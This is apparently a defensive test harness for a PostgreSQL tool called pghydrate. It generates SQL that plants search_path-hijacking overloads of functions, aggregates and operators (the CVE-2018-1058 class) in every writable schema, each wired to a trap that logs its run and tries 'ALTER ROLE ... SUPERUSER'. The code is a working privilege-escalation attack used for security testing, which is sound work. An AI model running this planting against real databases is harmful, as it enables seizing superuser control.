#!/usr/bin/env python3
"""A hostile catalog: an unprivileged role plants, in every schema it can create in, overloads of every
function, aggregate and operator name that appears in the SQL pghydrate executes, each a better match
than pg_catalog's for some argument types (the CVE-2018-1058 class). Each planted object, if it ever
runs, counts itself in a sequence (non-transactional: a rolled-back statement still counts), records
the role it ran as, and tries to make its owner SUPERUSER.

The names are derived from the project's own source: every string literal in engine/, functions/ and
cli/ that reads like SQL is split into identifiers and operator symbols; the server then keeps those
that name a function, aggregate or operator of pg_catalog or of pg_prewarm's extension. A statement
added later is covered without anyone remembering to.

Used by the Rust harness (tests/src/lib.rs runs `python3 tests/hostile_catalog.py sql ROLE`) and by
the twin (twin/test_scenarios.py imports it). Stdlib only.

    python3 tests/hostile_catalog.py names        # what was derived
    python3 tests/hostile_catalog.py setup mallory  # the role's schema, trap and counters only
    python3 tests/hostile_catalog.py sql mallory    # set-up and planting, to run as a superuser in one database
"""
import re
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
SOURCES = ("engine/src", "functions", "cli/src")
SQL_WORDS = re.compile(r"\b(SELECT|ANALYZE|VACUUM|CREATE|RESET|SET|FROM|WHERE)\b")
STRING = re.compile(r'r#"(.*?)"#|"((?:[^"\\]|\\.)*)"', re.S)
IDENT = re.compile(r"[A-Za-z_][A-Za-z0-9_]*")
OPERATOR = re.compile(r"[+\-*/<>=~!@#%^&|`?]+")
# Keywords the parser turns into operator lookups by name (through the search path).
KEYWORD_OPERATORS = {"like": ("~~", "!~~"), "ilike": ("~~*", "!~~*"), "in": ("=", "<>"), "between": (">=", "<="),
                     "any": ("=", "<>"), "all": ("=", "<>")}


def sql_literals(root: Path = ROOT) -> list:
    """Every Rust string literal under SOURCES that reads like SQL."""
    out = []
    for top in SOURCES:
        for f in sorted((root / top).rglob("*.rs")):
            for m in STRING.finditer(f.read_text()):
                text = m.group(1) if m.group(1) is not None else m.group(2)
                if SQL_WORDS.search(text):
                    out.append(text)
    return out


def derive(root: Path = ROOT) -> tuple:
    """(identifiers, operator symbols) in the project's SQL text."""
    idents, ops = set(), set()
    for text in sql_literals(root):
        idents.update(w.lower() for w in IDENT.findall(text))
        for op in OPERATOR.findall(text):
            if "--" not in op and "/*" not in op:
                ops.add(op)
    for word, implied in KEYWORD_OPERATORS.items():
        if word in idents:
            ops.update(implied)
    return sorted(idents), sorted(ops)


def literal(s: str) -> str:
    return "'" + s.replace("'", "''") + "'"


def array(items) -> str:
    return "ARRAY[" + ", ".join(literal(x) for x in items) + "]::text[]"


def sql(role: str, root: Path = ROOT, plant: bool = True) -> str:
    """The script for one database, run by a superuser: set-up as the superuser (what PostgreSQL 14 and
    earlier granted everyone: CREATE on public), the role's schema `hostile` with its trap and
    counters, then (`plant`) the planting as `role`. With `plant`, ends with one row: (functions,
    aggregates, operators, schemas) planted."""
    q = '"' + role.replace('"', '""') + '"'
    setup = f"""
GRANT CREATE ON SCHEMA public TO PUBLIC;
DO $ext$ BEGIN
  -- pg_prewarm's own schema, when it is not public, is writable for everyone too.
  PERFORM 1 FROM pg_catalog.pg_extension e JOIN pg_catalog.pg_namespace n ON n.oid = e.extnamespace
   WHERE e.extname = 'pg_prewarm' AND n.nspname NOT IN ('public', 'pg_catalog');
  IF FOUND THEN
    EXECUTE (SELECT pg_catalog.format('GRANT USAGE, CREATE ON SCHEMA %I TO PUBLIC', n.nspname)
               FROM pg_catalog.pg_extension e JOIN pg_catalog.pg_namespace n ON n.oid = e.extnamespace
              WHERE e.extname = 'pg_prewarm');
  END IF;
END $ext$;
CREATE SCHEMA IF NOT EXISTS hostile AUTHORIZATION {q};
SET search_path = pg_catalog;  -- the planting itself must not walk into its own traps
SET ROLE {q};
CREATE TABLE IF NOT EXISTS hostile.ran (what text, as_role name, at timestamptz DEFAULT pg_catalog.now());
CREATE SEQUENCE IF NOT EXISTS hostile.runs;
GRANT USAGE ON SCHEMA hostile TO PUBLIC;
GRANT INSERT ON hostile.ran TO PUBLIC;
GRANT USAGE, UPDATE ON SEQUENCE hostile.runs TO PUBLIC;
CREATE OR REPLACE FUNCTION hostile.trap(what text) RETURNS void LANGUAGE plpgsql AS $trap$
BEGIN
  PERFORM pg_catalog.nextval('hostile.runs'::pg_catalog.regclass);
  INSERT INTO hostile.ran (what, as_role) VALUES (what, CURRENT_USER);
  BEGIN
    EXECUTE 'ALTER ROLE {q.replace("'", "''")} SUPERUSER';
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
END $trap$;
RESET ROLE;
RESET search_path;
"""
    if not plant:
        return setup
    idents, ops = derive(root)
    return setup + f"""
SET search_path = pg_catalog;
SET ROLE {q};
CREATE TEMP TABLE hostile_planted (kind text, schema text, signature text);
DO $plant$
#variable_conflict use_column
DECLARE
  idents text[] := {array(idents)};
  ops text[] := {array(ops)};
  schemas text[];
  s text;
  r record;
  n int := 0;
  rettype text;
  body text;
  sig text;
BEGIN
  SELECT pg_catalog.array_agg(nspname ORDER BY nspname) INTO schemas FROM pg_catalog.pg_namespace
   WHERE pg_catalog.has_schema_privilege(oid, 'CREATE')
     AND nspname NOT IN ('hostile', 'pg_catalog', 'information_schema') AND nspname NOT LIKE 'pg\\_%';

  -- Functions and aggregates: every signature of pg_catalog (or of pg_prewarm's extension) that
  -- carries a derived name, with each argument type replaced by the types a caller is likely to
  -- pass more exactly (name for text, oid for regclass, a concrete type for a polymorphic one...).
  FOR r IN
    WITH RECURSIVE alt(t, a) AS (VALUES
        ('text', 'text'), ('text', 'name'), ('text', 'character varying'),
        ('name', 'name'), ('name', 'text'),
        ('regclass', 'regclass'), ('regclass', 'oid'), ('regclass', 'integer'), ('regclass', 'bigint'),
        ('oid', 'oid'), ('oid', 'integer'), ('oid', 'bigint'), ('oid', 'regclass'),
        ('bigint', 'bigint'), ('bigint', 'integer'), ('bigint', 'oid'),
        ('integer', 'integer'), ('integer', 'smallint'), ('integer', 'oid'), ('integer', 'bigint'))
    , poly(a) AS (VALUES ('oid'), ('name'), ('text'), ('integer'), ('bigint'), ('boolean'), ('regclass'))
    , polyarr(a) AS (VALUES ('oid[]'), ('name[]'), ('text[]'), ('integer[]'))
    , sig AS (
        SELECT p.oid, p.proname::text AS name, p.prokind, p.proretset, p.provariadic <> 0 AS is_variadic,
               pg_catalog.format_type(p.prorettype, NULL) AS ret,
               ARRAY(SELECT pg_catalog.format_type(t, NULL) FROM pg_catalog.unnest(p.proargtypes::pg_catalog.oid[])
                     WITH ORDINALITY u(t, i) ORDER BY i) AS args
          FROM pg_catalog.pg_proc p
         WHERE p.proname = ANY (idents) AND p.prokind IN ('f', 'a') AND p.pronargs BETWEEN 1 AND 5
           AND (p.pronamespace = 'pg_catalog'::pg_catalog.regnamespace
                OR p.oid IN (SELECT d.objid FROM pg_catalog.pg_depend d JOIN pg_catalog.pg_extension e ON e.oid = d.refobjid
                              WHERE d.classid = 'pg_catalog.pg_proc'::pg_catalog.regclass AND d.deptype = 'e'
                                AND e.extname = 'pg_prewarm')))
    , expanded AS (
        SELECT oid, name, prokind, proretset, ret, args FROM sig WHERE NOT is_variadic
        UNION ALL
        SELECT s.oid, s.name, s.prokind, s.proretset, s.ret,
               s.args[1:pg_catalog.array_length(s.args, 1) - 1] || pg_catalog.array_fill(c, ARRAY[k])
          FROM sig s, (VALUES ('name'), ('text'), ('oid'), ('integer')) c(c), pg_catalog.generate_series(0, 3) k
         WHERE s.is_variadic)
    , combos(oid, name, prokind, proretset, ret, args, i, chosen) AS (
        SELECT oid, name, prokind, proretset, ret, args, 1, ARRAY[]::text[] FROM expanded
        UNION ALL
        SELECT c.oid, c.name, c.prokind, c.proretset, c.ret, c.args, c.i + 1, c.chosen || a
          FROM combos c,
               LATERAL pg_catalog.unnest(CASE
                 WHEN c.args[c.i] IN ('anyelement', 'anynonarray', 'anycompatible', 'anycompatiblenonarray', '"any"')
                   THEN ARRAY(SELECT a FROM poly)
                 WHEN c.args[c.i] IN ('anyarray', 'anycompatiblearray') THEN ARRAY(SELECT a FROM polyarr)
                 ELSE coalesce((SELECT pg_catalog.array_agg(a) FROM alt WHERE alt.t = c.args[c.i]), ARRAY[c.args[c.i]])
               END) a
         WHERE c.i <= coalesce(pg_catalog.array_length(c.args, 1), 0))
    , complete AS (
        SELECT DISTINCT name, prokind, proretset,
               CASE WHEN ret LIKE 'any%' THEN 'text' ELSE ret END AS ret, chosen
          FROM combos WHERE i = coalesce(pg_catalog.array_length(args, 1), 0) + 1)
    SELECT * FROM (SELECT *, pg_catalog.row_number() OVER (PARTITION BY name, prokind ORDER BY chosen) AS rn FROM complete) x
     WHERE rn <= 400
  LOOP
    sig := pg_catalog.array_to_string(r.chosen, ', ');
    FOREACH s IN ARRAY schemas LOOP
      n := n + 1;
      BEGIN
        IF r.prokind = 'a' THEN
          EXECUTE pg_catalog.format(
            'CREATE FUNCTION hostile.agg_%s(text, %s) RETURNS text LANGUAGE plpgsql AS $b$ BEGIN PERFORM hostile.trap(%L); RETURN NULL; END $b$',
            n, sig, pg_catalog.format('%I.%I(%s)', s, r.name, sig));
          EXECUTE pg_catalog.format('CREATE AGGREGATE %I.%I(%s) (SFUNC = hostile.agg_%s, STYPE = text)', s, r.name, sig, n);
        ELSE
          IF r.proretset THEN
            rettype := 'SETOF ' || r.ret; body := 'RETURN;';
          ELSE
            rettype := r.ret; body := 'RETURN NULL;';
          END IF;
          EXECUTE pg_catalog.format(
            'CREATE FUNCTION %I.%I(%s) RETURNS %s LANGUAGE plpgsql AS $b$ BEGIN PERFORM hostile.trap(%L); %s END $b$',
            s, r.name, sig, rettype, pg_catalog.format('%I.%I(%s)', s, r.name, sig), body);
        END IF;
        INSERT INTO hostile_planted VALUES (CASE r.prokind WHEN 'a' THEN 'aggregate' ELSE 'function' END, s,
                                            pg_catalog.format('%s(%s)', r.name, sig));
      EXCEPTION WHEN OTHERS THEN NULL;  -- e.g. the same signature already there, a type plpgsql refuses
      END;
    END LOOP;
  END LOOP;

  -- Operators: every derived symbol that pg_catalog defines as a binary operator, for every pair of
  -- the types catalog queries compare.
  FOR r IN
    WITH t(t) AS (VALUES ('name'), ('text'), ('oid'), ('smallint'), ('integer'), ('bigint'), ('"char"'),
                         ('boolean'), ('regclass'), ('character varying'))
    SELECT o.sym, l.t AS l, rt.t AS rt,
           CASE WHEN EXISTS (SELECT 1 FROM pg_catalog.pg_operator x WHERE x.oprname = o.sym
                              AND x.oprresult = 'pg_catalog.bool'::pg_catalog.regtype) THEN 'boolean' ELSE 'text' END AS ret
      FROM (SELECT DISTINCT oprname::text AS sym FROM pg_catalog.pg_operator
             WHERE oprname = ANY (ops) AND oprleft <> 0 AND oprnamespace = 'pg_catalog'::pg_catalog.regnamespace) o,
           t l, t rt
  LOOP
    n := n + 1;
    BEGIN
      EXECUTE pg_catalog.format(
        'CREATE FUNCTION hostile.op_%s(%s, %s) RETURNS %s LANGUAGE plpgsql AS $b$ BEGIN PERFORM hostile.trap(%L); RETURN NULL; END $b$',
        n, r.l, r.rt, r.ret, pg_catalog.format('%s %s %s', r.l, r.sym, r.rt));
      FOREACH s IN ARRAY schemas LOOP
        BEGIN
          EXECUTE pg_catalog.format('CREATE OPERATOR %I.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = hostile.op_%s)',
                                    s, r.sym, r.l, r.rt, n);
          INSERT INTO hostile_planted VALUES ('operator', s, pg_catalog.format('%s %s %s', r.l, r.sym, r.rt));
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
      END LOOP;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
END $plant$;
RESET ROLE;
SELECT (SELECT pg_catalog.count(*) FROM hostile_planted WHERE kind = 'function')::int4 AS functions,
       (SELECT pg_catalog.count(*) FROM hostile_planted WHERE kind = 'aggregate')::int4 AS aggregates,
       (SELECT pg_catalog.count(*) FROM hostile_planted WHERE kind = 'operator')::int4 AS operators,
       (SELECT pg_catalog.string_agg(DISTINCT schema, ',') FROM hostile_planted) AS schemas;
"""


def runs_sql() -> str:
    """How many times any planted object ran (the sequence counts even rolled-back runs), and the
    roles it ran as."""
    return ("SELECT CASE WHEN is_called THEN last_value ELSE 0 END::int8, "
            "(SELECT coalesce(pg_catalog.string_agg(DISTINCT as_role::text, ','), '') FROM hostile.ran) "
            "FROM hostile.runs")


if __name__ == "__main__":
    if len(sys.argv) >= 2 and sys.argv[1] == "names":
        idents, ops = derive()
        print("identifiers:", " ".join(idents))
        print("operators:", " ".join(ops))
    elif len(sys.argv) == 2 and sys.argv[1] == "runs-sql":
        print(runs_sql())
    elif len(sys.argv) == 3 and sys.argv[1] in ("sql", "setup"):
        print(sql(sys.argv[2], plant=sys.argv[1] == "sql"))
    else:
        sys.exit(__doc__)
